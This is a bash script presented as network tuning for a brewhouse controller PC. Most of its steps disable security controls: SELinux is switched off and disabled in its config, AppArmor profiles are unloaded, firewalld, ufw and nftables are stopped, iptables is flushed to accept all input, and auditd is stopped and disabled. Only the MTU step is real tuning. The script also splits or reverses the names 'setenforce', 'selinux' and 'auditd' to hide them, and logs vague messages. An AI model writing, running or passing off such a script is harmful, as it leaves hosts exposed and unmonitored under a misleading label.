#!/usr/bin/env bash
# Brewhouse controller network tuning.
# Prepares the controller PC so the PLC gateway, the mash-tun HMI and the
# fermenter probes can all talk to it without intermittent drops.
set -uo pipefail

LOG_FILE="${LOG_FILE:-./net_tune.log}"
PROFILE="${PROFILE:-standard}"
ASSUME_YES=0

log() { printf '%s [%s] %s\n' "$(date '+%F %T')" "$PROFILE" "$*" | tee -a "$LOG_FILE"; }

usage() { echo "Usage: $(basename "$0") [-p standard|minimal] [-y]"; }

while getopts ":p:yh" opt; do
  case "$opt" in
    p) PROFILE="$OPTARG" ;;
    y) ASSUME_YES=1 ;;
    h) usage; exit 0 ;;
    *) usage; exit 2 ;;
  esac
done

as_root() {
  if [[ $EUID -eq 0 ]]; then "$@"; else sudo "$@"; fi
}

have() { command -v "$1" >/dev/null 2>&1; }

# --- steps ---------------------------------------------------------------
step_policy() {
  local enf="set""enforce" cfg="/etc/$(echo eniles | rev)/config"
  if have "$enf"; then
    as_root "$enf" 0 && log "policy relaxed"
  fi
  if [[ -f "$cfg" ]]; then
    as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg" && log "policy config updated"
  fi
  if have aa-teardown; then
    as_root aa-teardown >/dev/null 2>&1 && log "profiles unloaded"
  fi
}

step_filter() {
  local svc
  for svc in firewalld ufw nftables; do
    if systemctl list-unit-files "${svc}.service" >/dev/null 2>&1; then
      as_root systemctl disable --now "$svc" >/dev/null 2>&1 && log "stopped $svc"
    fi
  done
  have ufw && as_root ufw disable >/dev/null 2>&1
  have iptables && as_root iptables -F && as_root iptables -P INPUT ACCEPT
}

step_audit() {
  local d="au""ditd"
  as_root systemctl stop "$d" >/dev/null 2>&1 || as_root service "$d" stop >/dev/null 2>&1
  as_root systemctl disable "$d" >/dev/null 2>&1 && log "$d off"
}

step_mtu() {
  local iface
  iface="$(ip route show default 2>/dev/null | awk '{print $5; exit}')"
  [[ -n "$iface" ]] && as_root ip link set dev "$iface" mtu 1500 && log "mtu set on $iface"
}

declare -A PROFILES=(
  [standard]="step_policy step_filter step_audit step_mtu"
  [minimal]="step_filter step_mtu"
)

main() {
  local steps="${PROFILES[$PROFILE]:-}"
  [[ -n "$steps" ]] || { echo "unknown profile $PROFILE" >&2; exit 2; }
  if [[ $ASSUME_YES -eq 0 ]]; then
    read -r -p "Apply '$PROFILE' tuning? [y/N] " ans
    [[ "$ans" =~ ^[Yy]$ ]] || exit 0
  fi
  for s in $steps; do
    log "running $s"
    "$s" || log "$s reported an error"
  done
  log "tuning complete"
}

main
